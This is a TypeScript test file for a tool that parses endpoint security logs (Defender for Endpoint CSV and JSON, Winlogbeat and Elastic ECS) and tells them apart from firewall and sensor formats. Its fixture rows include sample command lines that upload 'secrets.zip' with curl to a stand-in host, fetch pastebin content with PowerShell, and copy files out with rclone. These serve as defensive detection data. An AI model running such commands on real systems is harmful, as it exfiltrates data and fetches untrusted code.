/**
 * The text endpoint sources other than Windows XML: Winlogbeat / Elastic Agent
 * JSON lines (ECS), Defender for Endpoint advanced-hunting exports (CSV and
 * JSON), each told by content from the other sources and read into endpoint
 * records; and mixed drops through the coordinator, each file by its own reader.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Connection, NameLookup, ProcessStart } from '../../src/core/events/endpoint';
import { generate, type GenerateFormat } from '../../src/core/generate/index';
import type { MapInput } from '../../src/core/ingest/coordinator';
import { isEndpointInput, mayStitch } from '../../src/core/ingest/endpointHead';
import { mapThrough, readText } from '../helpers/endpoint-read';
import { samplesFolder } from '../helpers/samples';

/** A CSV cell as Defender's export writes it: quoted when it holds a comma, a quote or a line break. */
function cell(v: string): string {
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

function csv(header: readonly string[], rows: Record<string, string>[]): string {
  return [header.join(','), ...rows.map((r) => header.map((h) => cell(r[h] ?? '')).join(','))].join('\r\n') + '\r\n';
}

const NETWORK_HEADER = [
  'Timestamp',
  'DeviceId',
  'DeviceName',
  'ActionType',
  'RemoteIP',
  'RemotePort',
  'RemoteUrl',
  'LocalIP',
  'LocalPort',
  'Protocol',
  'LocalIPType',
  'RemoteIPType',
  'InitiatingProcessSHA1',
  'InitiatingProcessSHA256',
  'InitiatingProcessMD5',
  'InitiatingProcessFileName',
  'InitiatingProcessFileSize',
  'InitiatingProcessVersionInfoCompanyName',
  'InitiatingProcessVersionInfoProductName',
  'InitiatingProcessVersionInfoProductVersion',
  'InitiatingProcessVersionInfoInternalFileName',
  'InitiatingProcessVersionInfoOriginalFileName',
  'InitiatingProcessVersionInfoFileDescription',
  'InitiatingProcessId',
  'InitiatingProcessCommandLine',
  'InitiatingProcessCreationTime',
  'InitiatingProcessFolderPath',
  'InitiatingProcessParentFileName',
  'InitiatingProcessParentId',
  'InitiatingProcessParentCreationTime',
  'InitiatingProcessAccountDomain',
  'InitiatingProcessAccountName',
  'InitiatingProcessAccountSid',
  'InitiatingProcessAccountUpn',
  'InitiatingProcessAccountObjectId',
  'InitiatingProcessIntegrityLevel',
  'InitiatingProcessTokenElevation',
  'ReportId',
  'AppGuardContainerId',
  'AdditionalFields',
];

const PROCESS_HEADER = [
  'Timestamp',
  'DeviceId',
  'DeviceName',
  'ActionType',
  'FileName',
  'FolderPath',
  'SHA1',
  'SHA256',
  'MD5',
  'FileSize',
  'ProcessVersionInfoCompanyName',
  'ProcessId',
  'ProcessCommandLine',
  'ProcessIntegrityLevel',
  'ProcessTokenElevation',
  'ProcessCreationTime',
  'AccountDomain',
  'AccountName',
  'AccountSid',
  'AccountUpn',
  'AccountObjectId',
  'LogonId',
  'InitiatingProcessAccountDomain',
  'InitiatingProcessAccountName',
  'InitiatingProcessSHA1',
  'InitiatingProcessMD5',
  'InitiatingProcessFileName',
  'InitiatingProcessFileSize',
  'InitiatingProcessId',
  'InitiatingProcessCommandLine',
  'InitiatingProcessCreationTime',
  'InitiatingProcessFolderPath',
  'InitiatingProcessParentId',
  'InitiatingProcessParentFileName',
  'InitiatingProcessParentCreationTime',
  'ReportId',
  'AdditionalFields',
];

const CONNECTION_ROW: Record<string, string> = {
  Timestamp: '2024-03-05T10:00:01.1234567Z',
  DeviceId: '3f1a0c9e2b7d4e8f9a0b1c2d3e4f5a6b7c8d9e0f',
  DeviceName: 'ws-0142.corp.example',
  ActionType: 'ConnectionSuccess',
  RemoteIP: '104.20.67.143',
  RemotePort: '443',
  RemoteUrl: 'pastebin.com',
  LocalIP: '10.1.20.31',
  LocalPort: '51544',
  Protocol: 'Tcp',
  LocalIPType: 'Private',
  RemoteIPType: 'Public',
  InitiatingProcessFileName: 'powershell.exe',
  InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
  InitiatingProcessId: '4812',
  InitiatingProcessCommandLine: 'powershell.exe -nop -c "iwr https://pastebin.com/raw/x, -UseBasicParsing"',
  InitiatingProcessParentFileName: 'explorer.exe',
  InitiatingProcessParentId: '3120',
  InitiatingProcessAccountDomain: 'corp',
  InitiatingProcessAccountName: 'jdoe',
  InitiatingProcessIntegrityLevel: 'Medium',
  ReportId: '11223',
  AdditionalFields: '{"direction":"Out"}',
};

const PROCESS_ROW: Record<string, string> = {
  Timestamp: '2024-03-05T10:00:00.5Z',
  DeviceId: CONNECTION_ROW.DeviceId,
  DeviceName: 'ws-0142.corp.example',
  ActionType: 'ProcessCreated',
  FileName: 'curl.exe',
  FolderPath: 'C:\\Windows\\System32\\curl.exe',
  ProcessId: '6020',
  ProcessCommandLine: 'curl.exe -s https://transfer.example/u -T secrets.zip',
  AccountDomain: 'corp',
  AccountName: 'jdoe',
  InitiatingProcessFileName: 'cmd.exe',
  InitiatingProcessFolderPath: 'c:\\windows\\system32\\cmd.exe',
  ReportId: '11224',
};

describe('Defender for Endpoint CSV', () => {
  it('reads DeviceNetworkEvents into connections with RemoteUrl, command line and parent; counts other actions', () => {
    const rows = [
      CONNECTION_ROW,
      { ...CONNECTION_ROW, ActionType: 'ListeningConnectionCreated', RemoteIP: '', RemotePort: '' },
      { ...CONNECTION_ROW, ActionType: 'InboundConnectionAccepted' },
      { ...CONNECTION_ROW, ActionType: 'ConnectionAttempt', RemoteUrl: '', Protocol: 'Udp', RemoteIP: '::ffff:1.1.1.1' },
    ];
    const { sink, format } = readText(csv(NETWORK_HEADER, rows));
    expect(format).toBe('defender-csv');
    expect(sink.counts.headers).toBe(1);
    expect(sink.counts.skipped).toEqual({});
    expect(sink.counts.other).toEqual({
      'Defender DeviceNetworkEvents ListeningConnectionCreated': 1,
      'Defender DeviceNetworkEvents InboundConnectionAccepted': 1,
    });
    const [a, b] = sink.records as Connection[];
    expect(a).toEqual({
      kind: 'connection',
      time: Date.UTC(2024, 2, 5, 10, 0, 1, 123),
      computer: 'ws-0142.corp.example',
      guid: '',
      pid: 4812,
      image: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
      user: 'corp\\jdoe',
      file: 'test.log',
      line: 2,
      protocol: 'tcp',
      localAddress: '10.1.20.31',
      localPort: 51544,
      remoteAddress: '104.20.67.143',
      remotePort: 443,
      remoteUrl: 'pastebin.com',
      reverseName: '',
      commandLine: 'powershell.exe -nop -c "iwr https://pastebin.com/raw/x, -UseBasicParsing"',
      parentImage: 'explorer.exe',
    });
    expect(b).toMatchObject({ protocol: 'udp', remoteAddress: '1.1.1.1', remoteUrl: '', line: 5 });
  });

  it('reads DeviceProcessEvents into process starts, and a command line over several lines', () => {
    const rows = [
      PROCESS_ROW,
      { ...PROCESS_ROW, FolderPath: 'C:\\Tools', FileName: 'rclone.exe', ProcessCommandLine: 'rclone copy "a b"\nc:\\x remote:' },
      { ...PROCESS_ROW, ActionType: 'OpenProcessApiCall' },
    ];
    const { sink } = readText(csv(PROCESS_HEADER, rows));
    expect(sink.counts.skipped).toEqual({});
    expect(sink.counts.other).toEqual({ 'Defender DeviceProcessEvents OpenProcessApiCall': 1 });
    const [a, b] = sink.records as ProcessStart[];
    expect(a).toMatchObject({
      kind: 'process',
      pid: 6020,
      image: 'C:\\Windows\\System32\\curl.exe',
      commandLine: 'curl.exe -s https://transfer.example/u -T secrets.zip',
      parentImage: 'c:\\windows\\system32\\cmd.exe',
      user: 'corp\\jdoe',
      line: 2,
    });
    expect(b).toMatchObject({ image: 'C:\\Tools\\rclone.exe', commandLine: 'rclone copy "a b"\nc:\\x remote:', line: 3 });
  });

  it('counts other tables, and skips rows of the wrong width or time with their lines', () => {
    const file = csv(
      ['Timestamp', 'DeviceId', 'DeviceName', 'ActionType', 'FileName', 'FolderPath', 'SHA1', 'FileOriginUrl'],
      [{ Timestamp: '2024-03-05T10:00:00Z', DeviceName: 'ws', ActionType: 'FileCreated', FileName: 'a.exe' }],
    );
    expect(readText(file).sink.counts.other).toEqual({ 'Defender DeviceFileEvents': 1 });
    const bad = `${csv(NETWORK_HEADER, [CONNECTION_ROW])}1,2,3\r\n${csv(NETWORK_HEADER, [{ ...CONNECTION_ROW, Timestamp: 'yesterday' }]).split('\r\n')[1]}\r\n`;
    const { sink } = readText(bad);
    expect(sink.records).toHaveLength(1);
    expect(sink.counts.skipped).toEqual({ 'csv-columns': 1, 'bad-time': 1 });
    expect(sink.counts.examples.map((e) => [e.reason, e.line])).toEqual([
      ['csv-columns', 3],
      ['bad-time', 4],
    ]);
  });

  it('reads Sentinel rows that name their table in a Type column, and US-style times', () => {
    const header = [
      'TimeGenerated',
      'DeviceName',
      'ActionType',
      'RemoteIP',
      'RemotePort',
      'LocalIP',
      'LocalPort',
      'InitiatingProcessFileName',
      'InitiatingProcessFolderPath',
      'Type',
    ];
    const { sink } = readText(
      csv(header, [
        { ...CONNECTION_ROW, TimeGenerated: '3/5/2024, 10:00:01.250 PM', Type: 'DeviceNetworkEvents' },
        { ...CONNECTION_ROW, TimeGenerated: '3/5/2024, 12:00:01.250 AM', Type: 'DeviceNetworkEvents' },
      ]),
    );
    expect(sink.records.map((r) => r.time)).toEqual([Date.UTC(2024, 2, 5, 22, 0, 1, 250), Date.UTC(2024, 2, 5, 0, 0, 1, 250)]);
  });

  it("reads a CSV whose rows span the coordinator's parts as it reads it whole", async () => {
    const rows = [];
    for (let i = 0; i < 30; i++) {
      rows.push({ ...CONNECTION_ROW, LocalPort: String(50000 + i), InitiatingProcessCommandLine: `powershell -c "a\nb ${i}"` });
      rows.push({ ...CONNECTION_ROW, LocalPort: String(51000 + i) });
    }
    const bytes = Buffer.from(csv(NETWORK_HEADER, rows));
    const whole = await mapThrough([{ name: 'net.csv', bytes }]);
    const cut = await mapThrough([{ name: 'net.csv', bytes }], { first: 600, rest: 700 });
    expect(whole.records).toHaveLength(60);
    expect(cut.records).toEqual(whole.records);
    expect(cut.reports[0]).toMatchObject({ format: 'defender-csv', error: null });
  });
});

describe('Defender for Endpoint JSON', () => {
  it('reads JSON lines of both tables and the streaming API records', () => {
    const lines = [
      JSON.stringify({ ...CONNECTION_ROW, RemotePort: 443, InitiatingProcessId: 4812, LocalPort: 51544 }),
      JSON.stringify(PROCESS_ROW),
      JSON.stringify({
        time: '2024-03-05T10:00:02Z',
        tenantId: 'a',
        operationName: 'Publish',
        category: 'AdvancedHunting-DeviceNetworkEvents',
        properties: { ...CONNECTION_ROW, Timestamp: '2024-03-05T10:00:02Z', LocalPort: 51999 },
      }),
      JSON.stringify({ category: 'AdvancedHunting-DeviceRegistryEvents', properties: { Timestamp: 'x', DeviceName: 'ws' } }),
      '{"cut short',
    ];
    const { sink, format } = readText(lines.join('\n'));
    expect(format).toBe('defender-json');
    expect(sink.records.map((r) => [r.kind, r.line])).toEqual([
      ['connection', 1],
      ['process', 2],
      ['connection', 3],
    ]);
    expect(sink.records[0]).toMatchObject({ remotePort: 443, pid: 4812, localPort: 51544, remoteUrl: 'pastebin.com' });
    expect(sink.records[2]).toMatchObject({ localPort: 51999 });
    expect(sink.counts.other).toEqual({ 'Defender DeviceRegistryEvents': 1 });
    expect(sink.counts.skipped).toEqual({ 'not-json': 1 });
  });

  it("reads the API's response saved whole on one line", () => {
    const response = {
      Stats: { ExecutionTime: 0.1 },
      Schema: [
        { Name: 'Timestamp', Type: 'DateTime' },
        { Name: 'DeviceName', Type: 'String' },
      ],
      Results: [CONNECTION_ROW, { ...CONNECTION_ROW, LocalPort: '51545' }, PROCESS_ROW],
    };
    const { sink, format } = readText(`${JSON.stringify(response)}\n`);
    expect(format).toBe('defender-json');
    expect(sink.records.map((r) => [r.kind, r.line])).toEqual([
      ['connection', 1],
      ['connection', 1],
      ['process', 1],
    ]);
    const graph = { '@odata.context': 'x', schema: [], results: [PROCESS_ROW] };
    expect(readText(JSON.stringify(graph)).sink.records).toHaveLength(1);
  });
});

/** A Winlogbeat 7/8 document of a Sysmon event, event_data kept (the raw winlog input). */
function winlogbeat(id: number, eventData: Record<string, string>, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({
    '@timestamp': '2024-03-05T10:00:01.120Z',
    agent: { type: 'winlogbeat', version: '8.12.0' },
    ecs: { version: '8.0.0' },
    event: { code: String(id), kind: 'event', provider: 'Microsoft-Windows-Sysmon', module: 'sysmon' },
    host: { name: 'ws-0142' },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      computer_name: 'WS-0142.corp.example',
      event_id: String(id),
      provider_name: 'Microsoft-Windows-Sysmon',
      record_id: 51234,
      event_data: eventData,
    },
    ...extra,
  });
}

describe('Winlogbeat / Elastic Agent JSON lines (ECS)', () => {
  it('maps event_data through the Sysmon mapping', () => {
    const text = [
      winlogbeat(3, {
        UtcTime: '2024-03-05 10:00:01.120',
        ProcessGuid: '{6f1c2a3b-1111-65e6-1a00-000000000900}',
        ProcessId: '4812',
        Image: 'C:\\Windows\\System32\\curl.exe',
        User: 'CORP\\jdoe',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.1.20.31',
        SourcePort: '51544',
        DestinationIp: '104.20.67.143',
        DestinationPort: '443',
        DestinationHostname: 'a.cdn.example',
      }),
      winlogbeat(11, { TargetFilename: 'C:\\x' }),
      JSON.stringify({ '@timestamp': '2024-03-05T10:00:00Z', event: { dataset: 'system.syslog' }, message: 'x' }),
    ].join('\n');
    const { sink, format } = readText(text);
    expect(format).toBe('ecs-json');
    expect(sink.counts.other).toEqual({ 'Sysmon 11': 1, 'ECS system.syslog': 1 });
    expect(sink.records[0]).toMatchObject({
      kind: 'connection',
      computer: 'WS-0142.corp.example',
      pid: 4812,
      image: 'C:\\Windows\\System32\\curl.exe',
      localPort: 51544,
      remoteAddress: '104.20.67.143',
      reverseName: 'a.cdn.example',
      time: Date.UTC(2024, 2, 5, 10, 0, 1, 120),
    });
  });

  it('reads the ECS fields where a module moved event_data out, nested or flattened, and Elasticsearch hits', () => {
    const process = {
      '@timestamp': '2024-03-05T10:00:00.500Z',
      winlog: { event_id: 1, provider_name: 'Microsoft-Windows-Sysmon', computer_name: 'WS-0142' },
      process: {
        executable: 'C:\\Windows\\System32\\curl.exe',
        pid: 6020,
        entity_id: '{6f1c2a3b-2222-65e6-1b00-000000000900}',
        command_line: 'curl -s https://pastebin.com/raw/x',
        parent: { executable: 'C:\\Windows\\System32\\cmd.exe' },
      },
      user: { domain: 'CORP', name: 'jdoe' },
    };
    const connection = {
      '@timestamp': '2024-03-05T10:00:01.000Z',
      'winlog.event_id': '3',
      'winlog.provider_name': 'Microsoft-Windows-Sysmon',
      'host.name': 'ws-0142',
      'process.executable': 'C:\\Windows\\System32\\curl.exe',
      'process.pid': 6020,
      'source.ip': '10.1.20.31',
      'source.port': 51600,
      'destination.ip': '104.20.67.143',
      'destination.port': 443,
      'network.transport': 'tcp',
      'network.direction': 'egress',
    };
    const lookup = {
      _index: '.ds-winlogbeat-8.12.0-2024.03.05-000001',
      _id: 'x',
      _source: {
        '@timestamp': '2024-03-05T10:00:00.900Z',
        winlog: { event_id: 22, provider_name: 'Microsoft-Windows-Sysmon', computer_name: 'WS-0142' },
        process: { executable: 'C:\\Windows\\System32\\curl.exe', entity_id: '{6f1c2a3b-2222-65e6-1b00-000000000900}' },
        dns: { question: { name: 'pastebin.com' }, resolved_ip: ['104.20.67.143', '172.67.34.170'] },
      },
    };
    const security = {
      '@timestamp': '2024-03-05T10:00:03.000Z',
      winlog: {
        event_id: 5156,
        provider_name: 'Microsoft-Windows-Security-Auditing',
        computer_name: 'WS-0142',
        event_data: {
          Direction: '%%14593',
          Application: '\\device\\harddiskvolume2\\x.exe',
          ProcessID: '99',
          SourceAddress: '10.1.20.31',
          SourcePort: '51700',
          DestAddress: '198.51.100.7',
          DestPort: '80',
          Protocol: '6',
        },
      },
    };
    const { sink } = readText([process, connection, lookup, security].map((o) => JSON.stringify(o)).join('\n'));
    expect(sink.counts.skipped).toEqual({});
    const [p, c, l, s] = sink.records as [ProcessStart, Connection, NameLookup, Connection];
    expect(p).toMatchObject({
      kind: 'process',
      computer: 'WS-0142',
      pid: 6020,
      guid: '{6f1c2a3b-2222-65e6-1b00-000000000900}',
      commandLine: 'curl -s https://pastebin.com/raw/x',
      parentImage: 'C:\\Windows\\System32\\cmd.exe',
      user: 'CORP\\jdoe',
      time: Date.UTC(2024, 2, 5, 10, 0, 0, 500),
    });
    expect(c).toMatchObject({ kind: 'connection', computer: 'ws-0142', localPort: 51600, remotePort: 443, protocol: 'tcp' });
    expect(l).toMatchObject({ kind: 'lookup', query: 'pastebin.com', answers: ['104.20.67.143', '172.67.34.170'] });
    expect(s).toMatchObject({ kind: 'connection', pid: 99, remoteAddress: '198.51.100.7', protocol: 'tcp' });
  });
});

describe('Elastic Defend (Elastic Agent endpoint events, ECS JSON lines)', () => {
  const base = {
    agent: { type: 'endpoint', version: '8.12.0' },
    host: { name: 'ws-0142', os: { family: 'windows' } },
    ecs: { version: '8.10.0' },
  };
  it('reads process starts, outbound connections and lookup results; counts the rest by data stream', () => {
    const docs = [
      {
        ...base,
        '@timestamp': '2024-03-05T10:00:00.500Z',
        data_stream: { dataset: 'endpoint.events.process', namespace: 'default', type: 'logs' },
        event: { category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process' },
        process: {
          executable: 'C:\\Windows\\System32\\curl.exe',
          pid: 6020,
          entity_id: 'ZDY5YjFlNmEtNjA4',
          command_line: 'curl -s https://pastebin.com/raw/x',
          parent: { executable: 'C:\\Windows\\System32\\cmd.exe' },
        },
        user: { domain: 'CORP', name: 'jdoe' },
      },
      {
        ...base,
        '@timestamp': '2024-03-05T10:00:00.900Z',
        data_stream: { dataset: 'endpoint.events.network' },
        event: { category: ['network'], type: ['protocol', 'info'], action: 'lookup_result', dataset: 'endpoint.events.network' },
        process: { executable: 'C:\\Windows\\System32\\curl.exe', pid: 6020, entity_id: 'ZDY5YjFlNmEtNjA4' },
        dns: { question: { name: 'pastebin.com', type: 'A' }, resolved_ip: ['104.20.67.143'] },
      },
      {
        ...base,
        '@timestamp': '2024-03-05T10:00:01Z',
        data_stream: { dataset: 'endpoint.events.network' },
        event: { category: ['network'], type: ['start'], action: 'connection_attempted', dataset: 'endpoint.events.network' },
        process: { executable: 'C:\\Windows\\System32\\curl.exe', pid: 6020, entity_id: 'ZDY5YjFlNmEtNjA4' },
        source: { ip: '10.1.20.31', port: 51600 },
        destination: { ip: '104.20.67.143', port: 443 },
        network: { transport: 'tcp', direction: 'egress', type: 'ipv4' },
        user: { domain: 'CORP', name: 'jdoe' },
      },
      {
        ...base,
        '@timestamp': '2024-03-05T10:00:02Z',
        data_stream: { dataset: 'endpoint.events.file' },
        event: { category: ['file'], type: ['creation'], action: 'creation', dataset: 'endpoint.events.file' },
      },
    ];
    const { sink, format } = readText(docs.map((d) => JSON.stringify(d)).join('\n'));
    expect(format).toBe('ecs-json');
    expect(sink.counts.other).toEqual({ 'ECS endpoint.events.file': 1 });
    expect(sink.records.map((r) => r.kind)).toEqual(['process', 'lookup', 'connection']);
    expect(sink.records[0]).toMatchObject({
      computer: 'ws-0142',
      pid: 6020,
      commandLine: 'curl -s https://pastebin.com/raw/x',
      user: 'CORP\\jdoe',
    });
    expect(sink.records[1]).toMatchObject({ query: 'pastebin.com', answers: ['104.20.67.143'], guid: 'ZDY5YjFlNmEtNjA4' });
    expect(sink.records[2]).toMatchObject({ localPort: 51600, remoteAddress: '104.20.67.143', remotePort: 443, protocol: 'tcp' });
  });
});

/** A drop of every format, some gzipped, one in UTF-16. */
function mixedDrop(): { name: string; bytes: Buffer }[] {
  const gen = (format: GenerateFormat): Buffer =>
    Buffer.from([...generate({ days: 1, hosts: 40, rate: 2, format }).files[0].chunks()].join(''));
  const panos = samplesFolder('panos');
  const sensors = samplesFolder('sensors');
  const xml =
    `<?xml version="1.0" encoding="UTF-8"?>\n<Events>\n` +
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\n  <System>\n` +
    `    <Provider Name="Microsoft-Windows-Sysmon"/>\n    <EventID>1</EventID>\n` +
    `    <TimeCreated SystemTime="2024-03-05T10:00:00.5Z"/>\n    <Computer>WS-0142</Computer>\n  </System>\n` +
    `  <EventData>\n    <Data Name="Image">C:\\x.exe</Data>\n  </EventData>\n</Event>\n</Events>\n`;
  return [
    { name: 'panos.log', bytes: readFileSync(join(panos, 'url_threat_10x_11x__elastic-integrations.log')) },
    { name: 'net.csv.gz', bytes: gzipSync(csv(NETWORK_HEADER, [CONNECTION_ROW])) },
    { name: 'zeek.log', bytes: readFileSync(join(sensors, 'zeek-tsv-zeek-3.log')) },
    { name: 'events.xml', bytes: Buffer.from(xml, 'utf16le') },
    { name: 'export.csv', bytes: gen('csv') },
    { name: 'proc.json', bytes: Buffer.from(JSON.stringify(PROCESS_ROW) + '\n') },
    { name: 'eve.json.gz', bytes: gzipSync(readFileSync(join(sensors, 'suricata-eve-suricatalog-1.json'))) },
    { name: 'winlogbeat.ndjson', bytes: Buffer.from(winlogbeat(1, { Image: 'C:\\y.exe' }) + '\n') },
  ];
}

describe('telling the endpoint formats from the others', () => {
  it('does not take a Defender CSV for a PAN-OS export, nor ECS or Defender JSON for Zeek or Suricata', () => {
    expect(readText(csv(NETWORK_HEADER, [CONNECTION_ROW])).format).toBe('defender-csv');
    expect(readText(csv(PROCESS_HEADER, [PROCESS_ROW])).format).toBe('defender-csv');
    expect(readText(JSON.stringify(CONNECTION_ROW)).format).toBe('defender-json');
    expect(readText(winlogbeat(1, {})).format).toBe('ecs-json');
    const sensors = samplesFolder('sensors');
    expect(readText(readFileSync(join(sensors, 'suricata-eve-suricatalog-1.json'), 'utf8')).format).toBe('suricata-eve');
    const zeekJson = [...generate({ days: 1, hosts: 40, rate: 1, format: 'zeek-json' }).files[0].chunks()].join('');
    expect(readText(zeekJson).format).toBe('zeek-json');
    const panosCsv = [...generate({ days: 1, hosts: 40, rate: 1, format: 'csv' }).files[0].chunks()].join('');
    expect(readText(panosCsv).format).toBe('panos-csv');
  });

  it('reads a mixed drop (PAN-OS, Zeek, Suricata, Windows XML, ECS, Defender CSV and JSON, some gzipped) each by its own reader', async () => {
    const files = mixedDrop();
    const { reports, records } = await mapThrough(files, { first: 4096, rest: 8192 });
    expect(reports.map((r) => [r.name, r.format, r.error])).toEqual([
      ['panos.log', 'panos-syslog', null],
      ['net.csv.gz', 'defender-csv', null],
      ['zeek.log', 'zeek-tsv', null],
      ['events.xml', 'windows-xml', null],
      ['export.csv', 'panos-csv', null],
      ['proc.json', 'defender-json', null],
      ['eve.json.gz', 'suricata-eve', null],
      ['winlogbeat.ndjson', 'ecs-json', null],
    ]);
    expect(records.map((r) => [r.file, r.kind])).toEqual([
      ['net.csv.gz', 'connection'],
      ['events.xml', 'process'],
      ['proc.json', 'process'],
      ['winlogbeat.ndjson', 'process'],
    ]);
    // The sensor and firewall files still give their events.
    for (const r of reports.filter((x) => !['net.csv.gz', 'events.xml', 'proc.json', 'winlogbeat.ndjson'].includes(x.name)))
      expect(r.counts.browser + r.counts.nonBrowser + r.counts.unknown, r.name).toBeGreaterThan(0);
  });

  it("tells endpoint data from a file's first bytes, before the map (ingest/endpointHead.ts)", async () => {
    const input = (name: string, bytes: Uint8Array, extra: Partial<MapInput> = {}): MapInput => ({
      name,
      source: name,
      size: bytes.length,
      chunks: async function* () {
        // Small chunks, so a UTF-16 unit or a gzip block is cut between them.
        for (let at = 0; at < bytes.length; at += 997) yield bytes.subarray(at, at + 997);
      },
      ...extra,
    });
    const endpoint = new Set(['net.csv.gz', 'events.xml', 'proc.json', 'winlogbeat.ndjson']);
    for (const f of mixedDrop()) expect(await isEndpointInput(input(f.name, f.bytes)), f.name).toBe(endpoint.has(f.name));
    const evtx = readFileSync(join(samplesFolder('evtx'), 'sysmon.evtx'));
    expect(await isEndpointInput(input('sysmon.evtx', evtx))).toBe(true);
    expect(await isEndpointInput(input('sysmon.evtx.gz', gzipSync(evtx)))).toBe(true);
    expect(await isEndpointInput(input('notes.txt', Buffer.from('nothing a reader knows\n'.repeat(5000))))).toBe(false);
    expect(await isEndpointInput(input('empty.log', new Uint8Array(0)))).toBe(false);
    // A pipe's head cannot be read without losing it to the map: it may be endpoint data.
    expect(await isEndpointInput(input('fifo', new Uint8Array(0), { onePass: true }))).toBe(true);
    const generated = (endpoint: boolean): MapInput => ({
      ...input('url.log', new Uint8Array(0)),
      generated: { options: { days: 1, hosts: 40, endpoint }, index: 0 },
    });
    expect(await isEndpointInput(generated(true))).toBe(true);
    expect(await isEndpointInput(generated(false))).toBe(false);
    expect(await mayStitch([input('panos.log', mixedDrop()[0].bytes)], false)).toBe(false);
    expect(await mayStitch([input('panos.log', mixedDrop()[0].bytes)], true)).toBe(true);
  });
});
